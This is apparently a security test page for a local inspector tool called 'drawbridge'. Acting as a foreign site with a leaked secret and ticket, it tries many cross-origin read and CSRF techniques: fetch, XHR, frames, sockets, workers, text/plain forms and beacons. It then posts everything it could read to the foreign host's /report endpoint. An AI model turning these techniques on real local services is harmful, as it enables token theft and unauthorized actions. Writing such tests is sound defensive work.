// Has the inspector's secret and a ticket that is good, as if they had leaked, and tries both from where it is. It
// reports what it could read by each way: '' for nothing. Its address says:
//   target   the inspector
//   foreign  the foreign site, which takes the report
//   secret   the inspector's secret
//   ticket   a ticket that nobody has used
//   signal   if it is there, the page waits until the foreign site has answered /signal, which tells secret and ticket
'use strict';

(async () => {

const query = new URLSearchParams(location.search);
const signal = `${query.get('foreign')}/signal`;
const told = query.has('signal') ? await (await fetch(signal)).json() : Object.fromEntries(query);
const [target, secret, ticket] = [query.get('target'), told.secret, told.ticket];
const own = target + '/__drawbridge__';
const patience = 4000;
const bearer = { Authorization: 'Bearer ' + secret };
const json = { 'Content-Type': 'application/json' };

/// Addresses that hold the secret by each name that one might have.
const leaks = ['token', 'secret', 'access_token', 'ticket'].map(name => `${own}/calls?${name}=${secret}`);

const read = (url, options) => fetch(url, options).then(answer => answer.text());

/// The beginning of an answer that has no end.
const beginning = async (url, options) => {
    const { value } = await (await fetch(url, options)).body.getReader().read();
    return new TextDecoder().decode(value);
};

const xhr = (method, url, isAsync, headers = {}, body = null) => new Promise(done => {
    const request = new XMLHttpRequest();
    request.onloadend = () => done(request.responseText);
    request.open(method, url, isAsync);
    for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
    request.withCredentials = isAsync;
    request.send(body);
    if (!isAsync) done(request.responseText);
});

/// Puts an element into the page, and says what has come to the page with it.
const element = (name, properties) => new Promise(done => {
    const before = Reflect.ownKeys(window);
    const element = Object.assign(document.createElement(name), properties);
    element.onload = element.onerror = () => {
        let seen = Reflect.ownKeys(window).filter(key => !before.includes(key) && !/^\d+$/.test(String(key))).map(String).join();
        if (element.naturalWidth) seen += 'a picture';
        if (element.sheet) try { seen += [...element.sheet.cssRules].map(rule => rule.cssText).join(); } catch { /* Another origin's. */ }
        if (element.contentWindow) seen += text(element.contentWindow);
        done(seen);
    };
    document.body.append(element);
});

/// What may be read of another window.
const text = window => {
    try { return window.document.body.textContent; } catch { return ''; }
};

const form = (action, method, enctype, fields) => new Promise(done => {
    const frame = document.body.appendChild(
        Object.assign(document.createElement('iframe'), { name: 'f' + Math.random() }));
    const form = Object.assign(document.createElement('form'), { action, method, enctype, target: frame.name });
    for (const [name, value] of fields) {
        form.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
    }
    document.body.append(form);
    frame.onload = () => done(text(frame.contentWindow));
    form.submit();
});

const socket = (url, protocols) => new Promise(done => {
    const socket = new WebSocket(url.replace('http', 'ws'), protocols);
    socket.onopen = () => done('open');
    socket.onclose = () => done('');
});

const events = url => new Promise(done => {
    const source = new EventSource(url);
    source.onopen = () => done('open');
    source.onmessage = event => done(event.data);
    source.onerror = () => { source.close(); done(''); };
});

const worker = code => new Promise(done => {
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = message => done(message.data);
    worker.onerror = () => done('');
});

const other = async url => {
    const other = window.open(url);
    await new Promise(done => setTimeout(done, 1500));
    const seen = text(other);
    other?.close();
    return seen;
};

/// Changes things where it can.
const deeds = [
    ['PUT', '/replies?name=getVip', '1'], ['DELETE', '/calls?session=*', ''], ['POST', '/reset', ''],
    ['POST', '/calls', '{"name": "picked", "input": 1}'], ['POST', '/replies/save', '{"name": "getVip", "reply": 1}'],
];

const picks = {
    'fetch': () => read(`${own}/calls`, { headers: bearer }),
    'fetch with credentials': () => read(`${own}/calls`, { headers: bearer, credentials: 'include' }),
    'fetch without a referrer': () => read(`${own}/calls`, { headers: bearer, referrerPolicy: 'no-referrer' }),
    'fetch blind': () => read(`${own}/calls`, { headers: bearer, mode: 'no-cors' }),
    'fetch of the stream': () => beginning(`${own}/calls/events?session=*`, { headers: bearer }),
    'XHR': () => xhr('GET', `${own}/calls`, true, bearer),
    'synchronous XHR': () => xhr('GET', `${own}/calls`, false, bearer),
    'page': () => read(target + '/'),
    'page blind': () => read(target + '/', { mode: 'no-cors' }),
    'script': () => element('script', { src: target + '/main.js' }),
    'module': () => element('script', { src: target + '/api.js', type: 'module' }),
    'module with CORS': () => element('script', { src: target + '/dom.js', crossOrigin: 'anonymous' }),
    'import': async () => Object.keys(await import(target + '/text.js')).join(),
    'style sheet': () => element('link', { rel: 'stylesheet', href: target + '/style.css' }),
    'image': () => element('img', { src: target + '/icon.svg' }),
    'frame': () => element('iframe', { src: target + '/' }),
    'frame with the ticket': () => element('iframe', { src: `${target}/#${ticket}` }),
    'object': () => element('object', { data: target + '/' }),
    'window': () => other(target + '/'),
    'socket': () => socket(own + '/calls/events', ['drawbridge.inspector', 'token.' + secret]),
    'channel': () => socket(own + '/channel', ['drawbridge', 'token.' + secret]),
    'stream of events': () => events(leaks[0].replace('/calls', '/calls/events')),
    'worker': () => worker(`fetch('${own}/calls', { headers: { Authorization: 'Bearer ${secret}' } })
        .then(answer => answer.text(), () => '').then(text => postMessage(text));`),
    'worker importScripts': () => worker(`
        const before = Reflect.ownKeys(self);
        importScripts('${target}/main.js');
        postMessage(Reflect.ownKeys(self).filter(key => !before.includes(key)).map(String).join());`),
    'worker of theirs': () => new Promise(done => {
        const worker = new Worker(target + '/main.js');
        worker.onmessage = message => done(message.data);
        worker.onerror = () => done('');
    }),
    'service worker of theirs': async () => String(await navigator.serviceWorker.register(target + '/main.js')),
    'cache': async () => (await caches.open('x')).add(target + '/main.js').then(() => 'kept'),
    'ticket': () => read(target + '/ticket', { method: 'POST', headers: json, body: JSON.stringify({ ticket }) }),
    'ticket as text': () => read(target + '/ticket', { method: 'POST', body: JSON.stringify({ ticket }) }),
    'ticket blind': () => read(target + '/ticket', {
        method: 'POST', body: JSON.stringify({ ticket }), mode: 'no-cors', referrerPolicy: 'no-referrer' }),
    'ticket by XHR': () => xhr('POST', target + '/ticket', true, json, JSON.stringify({ ticket })),
    'ticket by a form': () => form(target + '/ticket', 'post', 'text/plain', [[`{"ticket":"${ticket}","x":"`, '"}']]),
    'ticket by a beacon': async () => void navigator.sendBeacon(target + '/ticket', JSON.stringify({ ticket })),
};
leaks.forEach((url, place) => {
    picks[`address ${place}`] = () => read(url);
    picks[`address ${place}, blind`] = () => read(url, { mode: 'no-cors' });
    picks[`address ${place}, in a script`] = () => element('script', { src: url });
    picks[`address ${place}, in a frame`] = () => element('iframe', { src: url });
});
deeds.forEach(([method, path, body]) => {
    const name = `${method} ${path}`;
    picks[name] = () => read(own + path, { method, headers: bearer, body: body || undefined });
    picks[name + ' by XHR'] = () => xhr(method, own + path, false, bearer, body);
    if (method !== 'POST') return;
    picks[name + ' blind'] = () => read(own + path, { method, headers: bearer, body, mode: 'no-cors' });
    picks[name + ' by a beacon'] = async () => void navigator.sendBeacon(`${own}${path}?token=${secret}`, body);
    picks[name + ' by a form'] = () => form(
        own + path, 'post', 'text/plain', [[body.slice(0, -1) + `,"token":"${secret}","x":"`, '"}']]);
});

const seen = {};
for (const [way, work] of Object.entries(picks)) {
    const end = new Promise(done => setTimeout(done, patience, ''));
    const own = (async () => String(await work() ?? ''))().catch(() => '');
    seen[way] = await Promise.race([own, end]);
}
await fetch(`${query.get('foreign')}/report`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(seen) });

})();
